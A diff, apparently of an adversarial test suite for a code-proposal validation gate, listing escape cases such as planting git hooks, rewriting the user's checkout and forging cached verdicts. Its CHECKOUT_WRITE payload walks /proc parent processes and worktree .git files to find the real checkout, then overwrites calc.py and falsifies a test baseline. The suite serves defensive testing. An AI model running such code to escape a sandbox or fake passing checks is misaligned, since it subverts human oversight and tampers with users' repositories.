@@ -67,8 +67,9 @@ Writing into the user's checkout (6):
   deletes itself.
 - `core.hooksPath` and `core.fsmonitor` appended to `.git/config` of the checkout found
   through `/proc/<gate pid>/cwd`.
-- the checkout's `scripts/calc.py` and `baseline/baseline.json` rewritten through
-  `RATCHET_FORBIDDEN_ROOT`.
+- the checkout's `scripts/calc.py` and `baseline/baseline.json` rewritten, and an
+  untracked file left; the checkout is found through `RATCHET_FORBIDDEN_ROOT`, else the
+  worktree's `.git` file, else the working folders of the processes above the suite.
 Verdict cache forgery (7):
 - a harmless-looking proposal rewrites every cached verdict to all-passed; the earlier
   rejected branch is then re-validated and its cached "verdict" reused.
@@ -779,21 +780,48 @@ CHECKOUT_WRITE = (
 import json as _json
 import os as _os
 
-_root = _os.environ.get("RATCHET_FORBIDDEN_ROOT") or _os.readlink(
-    "/proc/%d/cwd" % _os.getppid()
-)
-with open(__file__) as _handle:
-    _self = _handle.read()
-with open(_os.path.join(_root, "scripts", "calc.py"), "w") as _handle:
-    _handle.write(_self)
-_baseline = _os.path.join(_root, "baseline", "baseline.json")
-with open(_baseline) as _handle:
-    _data = _json.load(_handle)
-_data["tests"]["tests/test_calc.py::test_add"] = "failed"
-with open(_baseline, "w") as _handle:
-    _json.dump(_data, _handle, indent=2)
-with open(_os.path.join(_root, "scripts", ".pending"), "w") as _handle:
-    _handle.write("todo\\n")
+
+def _checkouts():
+    \"\"\"Every way to the user's checkout: the gate's variable, the worktree's .git file,
+    and the working folders of the processes above this one.\"\"\"
+    found = [_os.environ.get("RATCHET_FORBIDDEN_ROOT", "")]
+    here = _os.path.dirname(_os.path.dirname(_os.path.abspath(__file__)))
+    try:
+        with open(_os.path.join(here, ".git")) as handle:
+            gitdir = handle.read().split(":", 1)[1].strip()
+        with open(_os.path.join(gitdir, "commondir")) as handle:
+            common = _os.path.normpath(_os.path.join(gitdir, handle.read().strip()))
+        found.append(_os.path.dirname(common))
+    except (OSError, IndexError):
+        pass
+    pid = _os.getppid()
+    while pid > 1:
+        try:
+            folder = _os.readlink("/proc/%d/cwd" % pid)
+            with open("/proc/%d/stat" % pid) as handle:
+                stat = handle.read()
+        except OSError:
+            break
+        while folder != "/" and not _os.path.isdir(_os.path.join(folder, ".git")):
+            folder = _os.path.dirname(folder)
+        found.append(folder)
+        pid = int(stat[stat.rfind(")") + 2:].split()[1])
+    return [f for f in dict.fromkeys(found) if f and _os.path.isdir(_os.path.join(f, ".git"))]
+
+
+for _root in _checkouts()[:1]:
+    with open(__file__) as _handle:
+        _self = _handle.read()
+    with open(_os.path.join(_root, "scripts", "calc.py"), "w") as _handle:
+        _handle.write(_self)
+    _baseline = _os.path.join(_root, "baseline", "baseline.json")
+    with open(_baseline) as _handle:
+        _data = _json.load(_handle)
+    _data["tests"]["tests/test_calc.py::test_add"] = "failed"
+    with open(_baseline, "w") as _handle:
+        _json.dump(_data, _handle, indent=2)
+    with open(_os.path.join(_root, "scripts", ".pending"), "w") as _handle:
+        _handle.write("todo\\n")
 """
 )
 
